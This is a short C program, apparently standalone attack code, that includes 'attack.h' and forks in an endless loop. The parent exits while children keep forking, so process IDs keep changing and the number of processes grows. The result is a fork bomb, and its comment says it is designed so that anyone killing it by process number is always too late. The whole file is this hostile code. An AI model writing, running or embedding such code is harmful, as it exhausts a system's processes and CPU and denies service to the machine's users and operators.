// Keeps replacing itself, so that whoever kills by number is always late.
#include "attack.h"
int main(void) {
  for (;;) {
    if (fork() > 0) _exit(0);
    fork();
  }
}
